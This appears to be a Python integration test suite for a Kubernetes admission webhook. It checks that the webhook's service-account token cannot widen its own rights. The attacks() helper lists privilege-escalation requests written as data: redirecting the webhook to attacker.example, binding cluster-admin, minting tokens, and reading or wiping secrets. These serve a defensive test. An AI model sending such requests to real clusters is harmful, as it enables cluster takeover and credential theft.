"""deploy/kubernetes/webhook on a real control plane: the webhook with its own rights, called over TLS."""

import asyncio
import json
from collections.abc import AsyncIterator

import httpx2
import pytest
import yaml
from tests.cluster.conftest import AddNodes
from tests.cluster.control_plane import ControlPlane
from tests.cluster.installed import ROOT, as_account, controlled, installed, pod_of
from tests.cluster.policies import DRIVER
from tests.waiting import until

from rackloom.claim.cluster.admission.reviews import AdmissionMode
from rackloom.claim.cluster.admission.webhook import AdmissionSettings
from rackloom.claim.kube.api import KubeApi, KubeError, Rejected
from rackloom.claim.kube.connection import http_client
from rackloom.core.cluster import names
from rackloom.core.cluster.objects import (
    COMPUTE_DOMAIN,
    COMPUTE_DOMAIN_CLIQUE,
    NODE,
    POD,
    RESOURCE_CLAIM,
    RESOURCE_CLAIM_TEMPLATE,
    RESOURCE_SLICE,
    SECRET,
    Object,
    ResourceKind,
)
from rackloom.core.cluster.pods import CHANNEL_CONDITION, TEMPLATE_GATE

pytestmark = pytest.mark.anyio
CLUSTER_UUID = "7b968a6d-c8aa-45e1-9e07-e1e51be99c31"


@pytest.fixture
async def driver(cluster: ControlPlane, api: KubeApi, add_nodes: AddNodes) -> AsyncIterator[None]:
    """The controller at work, and the webhook called for all its rules."""
    await add_nodes(1)
    settings = AdmissionSettings(mode=AdmissionMode.ENFORCE)
    async with (
        installed(cluster, api, settings, COMPUTE_DOMAIN, COMPUTE_DOMAIN_CLIQUE),
        controlled(api, cluster),
    ):
        yield
        for item in (await api.list(COMPUTE_DOMAIN)).items:
            await api.delete(COMPUTE_DOMAIN, item["metadata"]["name"], item["metadata"]["namespace"])
        await until(lambda: has_no_domains(api), "the controller has taken all ComputeDomains apart")


async def has_no_domains(api: KubeApi) -> bool:
    return not (await api.list(COMPUTE_DOMAIN)).items


@pytest.fixture
async def channels(api: KubeApi, add_nodes: AddNodes) -> AsyncIterator[list[str]]:
    """Six nodes in two cliques, each with the channel that a plugin would publish."""
    nodes = []
    for clique in (1, 2):
        nodes += await add_nodes(3, labels={names.GPU_CLIQUE_LABEL: f"{CLUSTER_UUID}.{clique}"})
    attributes = {"type": {"string": "channel"}, "id": {"int": 0}}
    for node in nodes:
        spec = {
            "driver": names.IMEX_DRIVER,
            "nodeName": node,
            "pool": {"name": node, "generation": 1, "resourceSliceCount": 1},
            "devices": [{"name": names.CHANNEL_DEVICE, "attributes": attributes}],
        }
        await api.create(RESOURCE_SLICE, {"metadata": {"name": f"{node}-channels"}, "spec": spec})
    yield nodes
    for node in nodes:
        await api.delete(RESOURCE_SLICE, f"{node}-channels")


async def create(api: KubeApi, kind: ResourceKind, obj: Object, namespace: str) -> Object:
    """Create it as soon as the API server has heard of the webhook's certificate."""
    meta = {**obj["metadata"], "namespace": namespace}

    async def created() -> Object | None:
        try:
            return await api.create(kind, {**obj, "metadata": meta})
        except KubeError as error:
            if "failed calling webhook" in error.message:
                return None
            raise

    made = await until(created, "the webhook answers")
    assert made is not None
    return made


async def runs(api: KubeApi, namespace: str, name: str) -> bool:
    return bool((await api.get(POD, name, namespace))["status"]["phase"] == "Running")


async def test_the_minimal_example_applied_in_reverse_order_runs_unchanged(
    api: KubeApi, driver: None, channels: list[str], namespace: str
) -> None:
    text = (ROOT / "examples" / "imex-minimal" / "compute-domain.yaml").read_text()
    domain, pod = yaml.safe_load_all(text)
    made = await create(api, POD, pod, namespace)
    assert made["spec"]["schedulingGates"] == [{"name": TEMPLATE_GATE}]
    assert made["spec"]["affinity"] == pod["spec"]["affinity"] | made["spec"]["affinity"]
    await create(api, COMPUTE_DOMAIN, domain, namespace)
    await until(lambda: runs(api, namespace, pod["metadata"]["name"]), "the pod runs")
    (claim,) = (await api.list(RESOURCE_CLAIM, namespace)).items
    assert claim["status"]["allocation"]
    assert claim["status"]["reservedFor"]
    await api.delete(POD, pod["metadata"]["name"], namespace)


async def test_pods_that_say_nothing_of_cliques_come_to_one_in_any_order(
    api: KubeApi, driver: None, channels: list[str], namespace: str
) -> None:
    def worker(name: str) -> Object:
        container = {"name": "main", "image": "none", "resources": {"claims": [{"name": "channel"}]}}
        claims = [{"name": "channel", "resourceClaimTemplateName": "imex-channel-0"}]
        return {"metadata": {"name": name}, "spec": {"containers": [container], "resourceClaims": claims}}

    for name in ("early-1", "early-2"):
        await create(api, POD, worker(name), namespace)
    spec = {"channel": {"resourceClaimTemplate": {"name": "imex-channel-0"}}}
    await create(api, COMPUTE_DOMAIN, {"metadata": {"name": "job"}, "spec": spec}, namespace)
    await create(api, POD, worker("late"), namespace)
    for name in ("early-1", "early-2", "late"):
        await until(lambda name=name: runs(api, namespace, name), f"{name} runs")  # type: ignore[misc]
    nodes = [item["spec"]["nodeName"] for item in (await api.list(POD, namespace)).items]
    labels = [(await api.get(NODE, node))["metadata"]["labels"] for node in nodes]
    assert len({label[names.GPU_CLIQUE_LABEL] for label in labels}) == 1
    assert len(set(nodes)) == 3
    for name in ("early-1", "early-2", "late"):
        await api.delete(POD, name, namespace)


async def test_a_wrong_config_is_denied_with_its_place(api: KubeApi, driver: None, namespace: str) -> None:
    opaque = {"driver": "dra.net", "parameters": {"interface": {"mtu": 1}}}
    spec = {
        "devices": {
            "requests": [{"name": "nic", "exactly": {"deviceClassName": "dranet.net"}}],
            "config": [{"opaque": opaque}],
        }
    }

    async def denied(kind: ResourceKind, spec: Object) -> str:
        try:
            obj = {"metadata": {"name": "c", "namespace": namespace}, "spec": spec}
            await api.create(kind, obj, dry_run=True)
        except Rejected as error:
            return error.message
        except KubeError:
            return ""
        return ""

    message = await until(lambda: denied(RESOURCE_CLAIM, spec), "the webhook denies it")
    assert "object at spec.devices.config[0].opaque.parameters is invalid" in message
    assert "interface.mtu" in message
    message = await denied(RESOURCE_CLAIM_TEMPLATE, {"spec": spec})
    assert "object at spec.spec.devices.config[0].opaque.parameters is invalid" in message


async def test_the_webhooks_token_opens_gates_and_changes_nothing_else(
    cluster: ControlPlane, api: KubeApi, driver: None, namespace: str
) -> None:
    container = {"name": "main", "image": "none", "resources": {"claims": [{"name": "channel"}]}}
    claims = [{"name": "channel", "resourceClaimTemplateName": "none-such"}]
    spec = {"containers": [container], "resourceClaims": claims}
    await create(api, POD, {"metadata": {"name": "waits"}, "spec": spec}, namespace)
    plain = {"containers": [{"name": "main", "image": "none"}]}
    await api.create(POD, {"metadata": {"name": "plain", "namespace": namespace}, "spec": plain})
    image = ({"op": "replace", "path": "/spec/containers/0/image", "value": "mine"},)
    label = {"metadata": {"labels": {"app": "mine"}}}
    async with as_account(api, cluster, "rackloom-webhook") as own:

        async def held() -> bool:
            """A policy takes effect a moment after it is installed."""
            try:
                await own.patch(POD, "plain", namespace, label)
            except Rejected as error:
                return "rackloom-webhook-pods" in error.message
            return False

        await until(held, "the policy holds")
        for name, patch in (("waits", image), ("waits", label), ("plain", image)):
            with pytest.raises(Rejected, match="the webhook"):
                await own.patch(POD, name, namespace, patch)
        with pytest.raises(Rejected):
            await own.list(SECRET, DRIVER)
        condition = {"type": CHANNEL_CONDITION, "status": "False", "reason": "Test", "message": "told"}
        await say(own, namespace, conditions=[condition])
        for status in (
            {"conditions": [{"type": "Ready", "status": "True"}]},
            {"resourceClaimStatuses": [{"name": "channel", "resourceClaimName": "mine"}]},
        ):
            with pytest.raises(Rejected, match="the webhook"):
                await say(own, namespace, **status)
        opening = ({"op": "remove", "path": "/spec/schedulingGates/0"},)
        opened = await own.patch(POD, "waits", namespace, opening)
        assert "schedulingGates" not in opened["spec"]


ISSUER = "rackloom-webhook-certificates"
HOOKS = "/apis/admissionregistration.k8s.io/v1"
RIGHTS = "/apis/rbac.authorization.k8s.io/v1"
OURS = f"/api/v1/namespaces/{DRIVER}"
JOBS = f"/apis/batch/v1/namespaces/{DRIVER}"
MERGE = "application/merge-patch+json"


def binding(kind: str) -> Object:
    """An administrator's role for the webhook's account."""
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": "attack"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "rackloom-webhook", "namespace": DRIVER}],
    }


def attacks(job: str, pod: str) -> list[tuple[str, str, Object | None]]:
    """Requests that would give the webhook's token more rights. `job` and `pod` are the issuer's."""
    stolen = {"serviceAccountName": ISSUER, "containers": [{"name": "main", "image": "mine"}]}
    hook = {"name": "pods.rackloom.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None"}
    url = {"webhooks": [{**hook, "clientConfig": {"url": "https://attacker.example"}}]}
    meta: Object = {"metadata": {"name": "attack"}}
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    policy = {"matchConstraints": {"resourceRules": [rule]}, "validations": [{"expression": "true"}]}
    job_spec = {"template": {"spec": {**stolen, "restartPolicy": "Never"}}}
    token = {"type": "kubernetes.io/service-account-token"}
    named = {"metadata": {"name": "attack", "annotations": {"kubernetes.io/service-account.name": ISSUER}}}
    label = {"metadata": {"labels": {"attack": "1"}}}
    everything = {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
    return [
        *(
            (method, f"{HOOKS}/{kind}/rackloom-webhook", body)
            for kind in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
            for method, body in (("PATCH", url), ("PATCH", label), ("GET", None), ("DELETE", None))
        ),
        ("POST", f"{HOOKS}/mutatingwebhookconfigurations", meta),
        ("POST", f"{HOOKS}/validatingadmissionpolicies", {**meta, "spec": policy}),
        ("DELETE", f"{HOOKS}/validatingadmissionpolicies/rackloom-webhook-pods", None),
        ("DELETE", f"{HOOKS}/validatingadmissionpolicybindings/rackloom-webhook-pods", None),
        ("POST", f"{RIGHTS}/clusterrolebindings", binding("ClusterRoleBinding")),
        ("POST", f"{RIGHTS}/namespaces/{DRIVER}/rolebindings", binding("RoleBinding")),
        ("PATCH", f"{RIGHTS}/clusterroles/rackloom-webhook", everything),
        ("PATCH", f"{RIGHTS}/namespaces/{DRIVER}/roles/rackloom-webhook", everything),
        ("POST", f"{OURS}/serviceaccounts/{ISSUER}/token", {"spec": {}}),
        ("POST", f"{OURS}/serviceaccounts/rackloom-webhook/token", {"spec": {}}),
        ("PATCH", f"{OURS}/serviceaccounts/rackloom-webhook", label),
        ("GET", f"{OURS}/secrets", None),
        ("GET", f"{OURS}/secrets/rackloom-webhook-authority", None),
        ("PATCH", f"{OURS}/secrets/rackloom-webhook-authority", {"data": None}),
        ("PATCH", f"{OURS}/secrets/rackloom-webhook-tls", {"data": None}),
        ("POST", f"{OURS}/secrets", {**named, **token}),
        ("POST", f"{OURS}/pods", {**meta, "spec": stolen}),
        ("POST", f"{JOBS}/jobs", {**meta, "spec": job_spec}),
        ("PATCH", f"{JOBS}/jobs/{job}", label),
        ("DELETE", f"{JOBS}/jobs/{job}", None),
        ("PATCH", f"{JOBS}/cronjobs/{ISSUER}", {"spec": {"suspend": True}}),
        ("PATCH", f"{OURS}/pods/{pod}", label),
        ("PATCH", f"{OURS}/pods/{pod}", {"spec": {"activeDeadlineSeconds": 1}}),
        ("PATCH", f"{OURS}/pods/{pod}/status", {"status": {"phase": "Failed"}}),
        ("DELETE", f"{OURS}/pods/{pod}", None),
        ("PATCH", f"/apis/apps/v1/namespaces/{DRIVER}/deployments/rackloom-webhook", label),
        ("PATCH", f"/apis/apps/v1/namespaces/{DRIVER}/daemonsets/rackloom-node-gpu", label),
        ("PATCH", f"/api/v1/namespaces/{DRIVER}", label),
    ]


async def test_the_webhooks_token_cannot_rewrite_admission_nor_reach_an_account_that_can(
    cluster: ControlPlane, api: KubeApi, driver: None
) -> None:
    pod = await pod_of(api, ISSUER, account=ISSUER)
    job = pod["metadata"]["ownerReferences"][0]["name"]
    own = await pod_of(api, "rackloom-webhook", account="rackloom-webhook")
    token = await asyncio.to_thread(cluster.bound_token, own, "rackloom-webhook")
    kubeconfig = cluster.kubeconfig_of_token("attacker", token)
    async with http_client(kubeconfig, None) as attacker, http_client(cluster.admin, None) as admin:

        async def answer(client: httpx2.AsyncClient, method: str, path: str, body: Object | None) -> int:
            content_type = {"Content-Type": MERGE if method == "PATCH" else "application/json"}
            # A dry run for the administrator, who shows that each request would be a change.
            params = {"dryRun": "All"} if method != "GET" else {}
            content = None if body is None else json.dumps(body)
            sent = await client.request(method, path, params=params, content=content, headers=content_type)
            return sent.status_code

        async def is_held() -> bool:
            """A policy takes effect a moment after it is installed."""
            path = f"{OURS}/pods/{pod['metadata']['name']}"
            return await answer(attacker, "PATCH", path, {"metadata": {"labels": {"a": "b"}}}) != 200

        await until(is_held, "the policy holds")
        tried = attacks(job, pod["metadata"]["name"])
        assert [attack for attack in tried if await answer(attacker, *attack) not in (403, 422)] == []
        assert [attack for attack in tried if await answer(admin, *attack) not in (200, 201, 202)] == []
        impersonated = {"Impersonate-User": f"system:serviceaccount:{DRIVER}:{ISSUER}"}
        path = f"{HOOKS}/mutatingwebhookconfigurations/rackloom-webhook"
        assert (await attacker.get(path, headers=impersonated)).status_code == 403
        assert (await admin.get(path, headers=impersonated)).status_code == 200


async def say(own: KubeApi, namespace: str, **status: object) -> None:
    obj = {"metadata": {"name": "waits", "namespace": namespace}, "status": status}
    await own.apply(POD, obj, manager="test", force=True, subresource="status")


async def test_a_bare_pod_that_came_too_early_in_channel_mode_is_told_what_to_do(
    api: KubeApi, driver: None, namespace: str
) -> None:
    container = {"name": "main", "image": "none", "resources": {"claims": [{"name": "channel"}]}}
    claims = [{"name": "channel", "resourceClaimTemplateName": "channel"}]
    spec = {"containers": [container], "resourceClaims": claims}
    await create(api, POD, {"metadata": {"name": "early"}, "spec": spec}, namespace)
    meta = {"name": "job", "namespace": namespace, "labels": {names.ISOLATION_LABEL: "channel"}}
    wanted = {"channel": {"resourceClaimTemplate": {"name": "channel"}}}
    await api.create(COMPUTE_DOMAIN, {"metadata": meta, "spec": wanted})

    async def condition_message() -> str:
        status = (await api.get(POD, "early", namespace)).get("status", {})
        found = {condition["type"]: condition for condition in status.get("conditions", ())}
        return str(found.get(CHANNEL_CONDITION, {}).get("message", ""))

    assert "delete the pod and create it again" in await until(condition_message, "the pod's owner is told")
    await api.delete(POD, "early", namespace, grace_seconds=0)
    await create(api, POD, {"metadata": {"name": "early"}, "spec": spec}, namespace)
    pod = await api.get(POD, "early", namespace)
    assert "resourceClaimTemplateName" not in pod["spec"]["resourceClaims"][0]
    assert not pod["spec"].get("schedulingGates")
